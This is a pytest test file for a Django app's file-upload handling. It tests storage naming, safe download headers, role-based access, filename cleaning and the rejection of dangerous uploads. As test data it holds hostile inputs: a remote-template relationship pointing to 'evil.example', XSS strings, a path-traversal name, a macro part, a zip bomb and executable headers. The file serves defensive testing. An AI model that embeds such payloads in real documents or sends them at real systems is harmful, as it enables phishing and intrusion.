import io
import os
import zipfile
from datetime import timedelta

import pytest
from django.utils import timezone

from mentoring.access import Role
from mentoring.accounts import files, tasks
from mentoring.accounts.contents import FileRefused, content_type
from mentoring.accounts.models import Operation, StoredFile
from tests.cast import browse, make_member

PDF = b"%PDF-1.7 protocol"
LINKS = "word/_rels/settings.xml.rels"
TEMPLATE = (
    '<Relationship Id="1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
)


@pytest.fixture(autouse=True)
def folder(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    return settings.MEDIA_ROOT


def package(**parts) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in ({"[Content_Types].xml": "<Types/>"} | parts).items():
            made.writestr(name, content)
    return stream.getvalue()


def status(browser, kept: StoredFile) -> int:
    answer = browser.get("file", kept.public_id)
    if answer.streaming:
        b"".join(answer.streaming_content)  # read to its end, a file closes itself
    return answer.status_code


def docx(**parts) -> bytes:
    return package(**({"word/document.xml": "<w:document/>"} | parts))


def keep(school, name="протокол.pdf", data=PDF, action="people.see") -> StoredFile:
    return files.store(school, name, data, action=action, by=None)


def test_file_lies_under_a_random_name_in_the_folder_of_its_school(school, folder):
    kept = keep(school)

    (path,) = folder.glob("*/*")
    assert path.parent.name == str(school.pk)
    assert "протокол" not in path.name
    assert path.read_bytes() == files.read(kept) == PDF
    assert files.faults() == []


def test_file_is_always_a_download_that_nothing_can_run_from(school, curator):
    kept = keep(school, "протокол № 3.pdf")

    answer = curator.get("file", kept.public_id)

    assert b"".join(answer.streaming_content) == PDF
    assert answer["Content-Disposition"].startswith("attachment; filename*=utf-8''%D0%BF")
    assert answer["Content-Type"] == "application/pdf"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer["Cache-Control"] == "private, no-store"


def test_file_is_opened_by_those_with_its_right_alone(school, curator, other_curator):
    kept = keep(school, action="people.edit")
    mentor, hr = (browse(make_member(school, role)) for role in (Role.MENTOR, Role.HR))

    asked = [status(browser, kept) for browser in (curator, hr, mentor, other_curator)]

    assert asked == [200, 200, 404, 404]


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Документы\\протокол.pdf", "протокол.pdf"),
        ("отчёт\u202efdp.pdf", "отчётfdp.pdf"),
        ("а\x00б\r\nв.pdf", "абв.pdf"),
        ("🎓 выпуск.pdf", "🎓 выпуск.pdf"),
        ("ы" * 300 + ".pdf", "ы" * 196 + ".pdf"),
    ],
)
def test_name_is_shown_cleaned(school, curator, sent, shown):
    kept = keep(school, sent)

    assert kept.name == shown
    assert status(curator, kept) == 200


def test_name_of_nothing_but_a_suffix_stays_short():
    assert len(files.clean_name("а." + "b" * 500)) <= 200
    assert files.clean_name("\u202e") == "файл"


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("а.pdf", PDF, "application/pdf"),
        ("а.PNG", b"\x89PNG\r\n\x1a\n...", "image/png"),
        ("а.jpeg", b"\xff\xd8\xff\xe0", "image/jpeg"),
        ("а.txt", "явка".encode("cp1251"), "text/plain"),
        ("а.csv", "явка;1".encode("utf-16"), "text/csv"),
        ("а.docx", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ],
)
def test_file_is_what_its_bytes_are(name, data, kind):
    assert content_type(name, data) == kind


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("а.docx", b"<html><script>alert(1)</script>", "внутри не то"),
        ("а.docx", package(**{"xl/workbook.xml": "<x/>"}), "внутри не то"),
        ("а.docx", b"PK\x03\x04" + b"\x00" * 100, "повреждён"),
        ("а.docx", docx(**{"word/vbaProject.bin": "x"}), "макросы"),
        ("а.docx", docx(**{LINKS: TEMPLATE}), "подгружает шаблон"),
        ("а.docx", docx(**{"word/media/bomb.xml": b"0" * (201 * 1024 * 1024)}), "после распаковки"),
        ("а.docx", docx(**{f"word/{number}.xml": "" for number in range(3001)}), "после распаковки"),
        ("а.pdf", b"<svg onload=alert(1)>", "внутри не то"),
        ("а.png", PDF, "внутри не то"),
        ("а.txt", b"MZ\x00\x01", "внутри не то"),
        ("а.doc", b"\xd0\xcf\x11\xe0", "старый вид"),
        ("а.docm", docx(), "с макросами"),
        ("а.html", b"<html>", "не принимаем"),
        ("а.svg", b"<svg/>", "не принимаем"),
        ("а.exe", b"MZ", "не принимаем"),
        ("без расширения", b"MZ", "не принимаем"),
    ],
    ids=str,
)
def test_file_that_is_something_else_is_refused_with_a_remedy(name, data, why):
    with pytest.raises(FileRefused, match=why) as refusal:
        content_type(name, data)

    assert str(refusal.value).startswith(f"«{name}»: ")


def test_refused_file_leaves_nothing(school, folder):
    for data in (b"", b"0" * (files.LIMIT + 1), b"<html>"):
        with pytest.raises(FileRefused):
            keep(school, data=data)

    assert not folder.exists()
    assert StoredFile.objects.count() == 0


def test_quota_of_one_school_is_not_the_others(school, other_school, monkeypatch):
    monkeypatch.setattr(files, "QUOTA", 2 * len(PDF))
    keep(school)
    keep(school)

    with pytest.raises(FileRefused, match="место для файлов закончилось"):
        keep(school)
    assert keep(other_school).size == len(PDF)


def test_number_of_files_has_an_end_too(school, monkeypatch):
    monkeypatch.setattr(files, "MOST", 1)
    keep(school)

    with pytest.raises(FileRefused, match="место для файлов закончилось"):
        keep(school)


def test_full_disk_is_said_in_words_and_leaves_no_half_file(school, folder, monkeypatch):
    monkeypatch.setattr(os, "fsync", lambda _: (_ for _ in ()).throw(OSError(28, "No space left on device")))

    with pytest.raises(FileRefused, match="нет места"):
        keep(school)

    assert list(folder.glob("*/*")) == []
    assert StoredFile.objects.count() == 0


def test_lost_file_is_said_in_words_and_to_the_doctor(school, curator, folder):
    kept = keep(school)
    (folder / kept.path).unlink()

    answer = curator.get("file", kept.public_id)

    assert answer.status_code == 503
    assert kept.public_id in answer.content.decode()
    assert files.faults() == [f"файл {kept.public_id}: нет на диске"]


def test_orphans_are_swept_after_a_day_and_nothing_else(school, folder):
    kept = keep(school)
    for name in ("a" * 32, "b" * 32 + ".part", "чужое.txt"):
        (folder / str(school.pk) / name).write_bytes(b"1")
    fresh = folder / str(school.pk) / ("c" * 32)
    old = (timezone.now() - timedelta(days=2)).timestamp()
    for path in folder.glob("*/*"):
        os.utime(path, (old, old))
    fresh.write_bytes(b"1")

    assert files.sweep(timezone.now()) == 2
    assert {path.name for path in folder.glob("*/*")} == {kept.path.split("/")[1], "чужое.txt", fresh.name}


def test_daily_order_forgets_what_nobody_will_send_again(curator, school):
    for token in ("old", "new"):
        Operation.objects.create(organization=school, token=token, membership=curator.member, action="x")
    Operation.objects.filter(token="old").update(at=timezone.now() - timedelta(days=31))

    tasks.tidy()

    assert Operation.objects.get().token == "new"
